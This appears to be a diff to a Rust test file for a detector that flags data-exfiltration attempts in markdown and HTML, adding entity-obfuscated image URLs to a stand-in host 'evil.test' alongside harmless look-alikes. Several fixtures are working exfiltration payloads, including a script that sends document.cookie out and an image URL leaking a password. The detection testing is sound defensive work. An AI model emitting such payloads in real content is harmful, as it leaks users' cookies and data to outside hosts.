@@ -140,6 +140,16 @@ fn values_and_elements_that_give_something_away_are_found() {
                 "<meta http-equiv=refresh content=\"0; url=https://evil.test/?d={data}\">",
             ),
             ("html_load", "«@import 'https://evil.test/?d={data}'»;"),
+            // Entities are read in addresses, and only there.
+            ("markdown_image", "![x](https&#58;//evil.test/?d={data})"),
+            (
+                "markdown_image",
+                "![x](https://evil.test/?d=&#123;data&#x7d;)",
+            ),
+            (
+                "html_load",
+                "<img src=\"https://evil.test/?a=1&amp;password=hunter2\">",
+            ),
             (
                 "script_send",
                 "<img src=x onerror=\"«fetch('//evil.test/?'+document.cookie»)\">",
@@ -179,6 +189,8 @@ fn honest_images_and_links_are_left_alone() {
             "![c](https://ci.test/badge.svg?token=ABC123XYZ9&branch=MAIN) [::1]:8080 x",
             "[i](https://a.test/issues?q=is%3Aissue+is%3Aopen) ![x](https://a.test/My%20Photo.png)",
             "<meta name=\"description\" content=\"a page; url=none\"> @import 'https://cdn.test/a.css';",
+            "&lt;img src=\"https://evil.test/?d={data}\"&gt; &#33;[x](https://evil.test/?a=1)",
+            "<a href=\"https://a.test/?a=1&amp;b=2&amp;lang=en\"> ![x](https://a.test/?a&lt=2)",
             "background: url(https://cdn.test/fonts/a.woff2?v=4.7.0);",
         ],
     );
